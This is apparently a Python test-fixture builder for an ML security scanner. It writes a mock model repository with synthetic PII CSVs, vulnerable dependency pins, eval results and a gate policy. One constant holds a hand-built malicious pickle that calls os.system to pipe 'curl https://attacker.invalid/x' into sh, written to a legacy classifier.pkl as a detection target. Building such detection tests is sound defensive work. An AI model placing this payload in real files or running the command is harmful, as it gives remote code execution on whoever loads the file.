"""A realistic repository for the report tests (issue 15): what a team shipping a fine-tuned model
commits, with ten real problems spread over four gates.

- ``models/``: a transformers-style checkpoint written by the real libraries (torch, safetensors;
  from ``../shared/testdata/models-benign``), a full-module torch pickle (globals outside the
  weights-only set) and a legacy ``classifier.pkl`` that would call ``os.system`` when unpickled,
  built here from pickle opcodes (never loaded by anything).
- ``data/``: two CSVs with PII (customer table: e-mail, phone and card columns; support tickets
  with e-mail addresses in free text) and a clean one.
- ``requirements.txt``: ten pins, several with published advisories in the PyPA snapshot (audited
  offline against ``../shared/testdata/osv``).
- ``eval/``: lm-evaluation-harness results, two metrics under their floors.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

REQUIREMENTS = [
    "requests==2.19.0", "urllib3==1.24.1", "jinja2==2.11.2", "pyyaml==5.3.1", "numpy==1.21.0",
    "tqdm==4.64.0", "certifi==2022.9.24", "idna==3.6", "setuptools==65.5.0", "six==1.16.0",
]

# pickle protocol 0: GLOBAL os.system, MARK, STRING, TUPLE, REDUCE, STOP (a data file, never run)
MALICIOUS_PICKLE = b"cos\nsystem\n(S'curl -s https://attacker.invalid/x | sh'\ntR."

FIRST = ["Ada", "Bo", "Cy", "Di", "Ed", "Flo", "Gus", "Hal", "Ivy", "Jo"]
LAST = ["Quill", "Tern", "Wren", "Lark", "Finch", "Rook", "Swift", "Crane", "Heron", "Kite"]


def _luhn(body: str) -> str:
    total = 0
    for i, d in enumerate(reversed(body)):
        n = int(d) * (2 if i % 2 == 0 else 1)
        total += n - 9 if n > 9 else n
    return body + str((10 - total % 10) % 10)


def _customers(rows: int) -> str:
    out = ["customer_id,name,email,phone,card_number,plan,signup_date"]
    for i in range(rows):
        name = f"{FIRST[i % 10]} {LAST[(i * 3) % 10]}"
        email = f"{FIRST[i % 10].lower()}.{i}@example.com"
        phone = f"+1 415 555 {1000 + (i * 37) % 9000:04d}"
        card = _luhn(f"411111111111{1000 + i:04d}"[:15])
        out.append(f"{10_000 + i},{name},{email},{phone},{card},{('free', 'pro', 'team')[i % 3]},2026-0{1 + i % 9}-1{i % 10}")
    return "\n".join(out) + "\n"


def _tickets(rows: int) -> str:
    out = ["ticket_id,subject,body,priority"]
    for i in range(rows):
        body = f"Please reset my account, reach me at {FIRST[i % 10].lower()}{i}@example.org" if i % 4 == 0 else "App crashes on start"
        out.append(f"T-{i:05d},Login issue {i},\"{body}\",{('low', 'high')[i % 2]}")
    return "\n".join(out) + "\n"


def _lm_eval() -> dict:
    return {
        "results": {
            "hellaswag": {"alias": "hellaswag", "acc,none": 0.5712, "acc_norm,none": 0.6684},
            "mmlu": {"alias": "mmlu", "acc,none": 0.4124},
            "gsm8k": {"alias": "gsm8k", "exact_match,strict-match": 0.3131},
            "toxigen": {"alias": "toxigen", "acc,none": 0.6830},
            "arc_easy": {"alias": "arc_easy", "acc,none": 0.7702, "acc_norm,none": 0.7437},
        },
        "config": {"model": "hf", "model_args": "pretrained=acme/support-7b"},
    }


def policy(osv_db: Path) -> str:
    return f"""version: 1
defaults:
  fail_on: high
gates:
  model:
    paths: ["models/**"]
    profiles: [torch, numpy]
  pii:
    paths: ["data/**"]
    entities:
      EMAIL_ADDRESS: {{action: block}}
      PHONE_NUMBER: {{action: warn}}
  deps:
    source: local
    database: {json.dumps(str(osv_db))}
    sources: [requirements.txt]
  eval:
    results: ["eval/results_*.json"]
    metrics:
      hellaswag/acc_norm: {{min: 0.70}}
      mmlu/acc: {{min: 0.50, required: true}}
      gsm8k/exact_match,strict-match: {{min: 0.25}}
waivers:
  - rule: EVAL001
    path: eval/results_*.json
    fingerprint: "0000000000000000"
    reason: "placeholder that matches nothing (a stale waiver)"
    expires: 2099-01-01
"""


def build(root: Path, shared: Path) -> Path:
    """Write the repository under ``root``; ``shared`` is ``../shared/testdata``."""
    benign = shared / "models-benign"
    ckpt = root / "models" / "support-7b"
    ckpt.mkdir(parents=True)
    shutil.copy(benign / "tiny.safetensors", ckpt / "model.safetensors")
    shutil.copy(benign / "torch_checkpoint_with_optimizer.pt", ckpt / "training_state.pt")
    shutil.copy(benign / "torch_mlp_state_dict.pt", ckpt / "pytorch_model.bin")
    (ckpt / "config.json").write_text(json.dumps({"architectures": ["MistralForCausalLM"], "model_type": "mistral"}))
    shutil.copy(benign / "torch_full_module_NOT_weights_only.pt", root / "models" / "head_module.pt")
    shutil.copy(benign / "relu.onnx", root / "models" / "relu.onnx")
    (root / "models" / "legacy").mkdir()
    (root / "models" / "legacy" / "classifier.pkl").write_bytes(MALICIOUS_PICKLE)
    (root / "data").mkdir()
    (root / "data" / "customers.csv").write_text(_customers(60))
    (root / "data" / "support_tickets.csv").write_text(_tickets(40))
    (root / "data" / "products.csv").write_text("sku,title,price\nA-1,Widget,9.99\nA-2,Gadget,19.99\n")
    (root / "eval").mkdir()
    (root / "eval" / "results_2026-12-01T10-00-00.json").write_text(json.dumps(_lm_eval(), indent=2))
    (root / "requirements.txt").write_text("\n".join(REQUIREMENTS) + "\n")
    (root / ".mlsec-gates.yml").write_text(policy(shared / "osv" / "pypa-advisory-database.json.gz"))
    return root
